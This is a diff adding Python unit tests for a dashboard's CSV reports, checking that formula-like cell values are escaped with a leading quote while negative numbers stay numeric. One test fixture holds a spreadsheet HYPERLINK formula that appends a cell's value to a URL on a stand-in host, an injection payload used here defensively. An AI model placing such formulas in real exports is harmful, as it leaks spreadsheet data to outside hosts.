@@ -7,12 +7,16 @@ import io
 import zipfile
 from zoneinfo import ZoneInfo
 
+import pandas as pd
 import pytest
 
 from dashboard.services.reports import render_report
+from dashboard.services.reports.csv import frame_csv
+from data.models import Client
 from tests.unit.dashboard.services.reports.conftest import NOW_TS, TODAY
 
 LONDON = ZoneInfo("Europe/London")
+LINK = '=HYPERLINK("https://example.invalid/?d="&B3,"Open")'
 
 
 def read_zip(content: bytes) -> dict[str, list[dict[str, str]]]:
@@ -121,3 +125,35 @@ def test_new_clients_segment_lists_only_clients_created_in_the_period(session, b
     rows = read_zip(report.content)
     assert [r["client_id"] for r in rows["clients.csv"]] == ["c-new"]
     assert rows["interventions.csv"] == []
+
+
+# -- cells safe for spreadsheets (dashboard.services.safe_csv)
+
+
+def test_a_formula_in_a_client_name_is_written_as_text(session, book):
+    session.get(Client, "c-ash").name = LINK
+    book.iv.urgent.title = "-1 day to call"
+    session.commit()
+
+    report = render_report(session, "30d", "all", "csv", zone=LONDON, today=TODAY, now=NOW_TS)
+
+    rows = read_zip(report.content)
+    ash = rows["clients.csv"][0]
+    assert (ash["client_id"], ash["name"], ash["score"]) == ("c-ash", "'" + LINK, "35")
+    urgent = rows["interventions.csv"][0]
+    assert (urgent["client_name"], urgent["title"]) == ("'" + LINK, "'-1 day to call")
+
+
+def test_report_files_keep_negative_numbers_as_numbers():
+    frame = pd.DataFrame(
+        {
+            "label": ["+3 points", "Fell"],
+            "change": [-5, 2],
+            "rate": [-0.25, 0.5],
+            "value": pd.Series([-6.6, None], dtype=object),
+        }
+    )
+
+    assert frame_csv(frame).decode("utf-8") == (
+        "label,change,rate,value\n'+3 points,-5,-0.25,-6.6\nFell,2,0.5,\n"
+    )
